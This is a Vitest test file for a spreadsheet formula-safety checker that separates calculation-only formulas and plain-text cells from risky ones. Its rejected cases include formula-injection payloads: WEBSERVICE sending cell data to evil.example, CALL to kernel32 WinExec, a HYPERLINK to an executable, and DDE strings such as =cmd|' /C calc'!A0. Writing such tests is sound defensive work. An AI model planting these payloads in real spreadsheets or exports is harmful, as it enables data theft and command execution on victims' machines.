import { expect, test } from 'vitest'
import { isPlainFormula, isPlainText } from './formula-safety.ts'

test.each([
  'SUM(A1:A9)*1.15',
  'IF(B2="WEBSERVICE(x)|",\'Sheet (1)\'!A1,ROUND ( C2,2))',
  '_xlfn.XLOOKUP(A2,Codes[Code(old)],Codes[[#All],[Price|SAR]])',
  '_xlfn._xlws.FILTER(A1:B9,B1:B9>0)',
  '_xlfn.LET(_xlpm.x,A1,_xlpm.f(_xlpm.x))',
  "Table1[it''s (x)]",
  'A1',
])('%s only calculates', (formula) => expect(isPlainFormula(formula)).toBe(true))

test.each([
  '_xlfn.WEBSERVICE("https://evil.example/?"&A1)',
  '_xlfn.IMAGE("https://evil.example")',
  'IF(TRUE,webservice (A1))',
  'HYPERLINK("file:///c:/a.exe")',
  'RTD("x",,"y")',
  'CALL("kernel32","WinExec","JCJ","calc",0)',
  '_xlfn.NEXT.YEARS.FUNCTION(A1)',
  "cmd|'/c calc'!A0",
  "T[a'b]&_xlfn.WEBSERVICE(A1)&T[c'd]",
])('%s may do more', (formula) => expect(isPlainFormula(formula)).toBe(false))

test.each(['RW300101', '5', '-5', '+966 (11) 234-5678', '- أبيض، 24', '@ site', '="0012"', "'=1+1", '', '3-4 (x)'])(
  'the cell %s is text',
  (cell) => expect(isPlainText(cell)).toBe(true),
)

test.each(["=cmd|' /C calc'!A0", '=1+1', '  =A1', '\t=A1', '+SUM(A1)', '-2+3+cmd|x!A', '@SUM(1)', '＝A1', '="a"&B1'])(
  'the cell %s would be calculated',
  (cell) => expect(isPlainText(cell)).toBe(false),
)
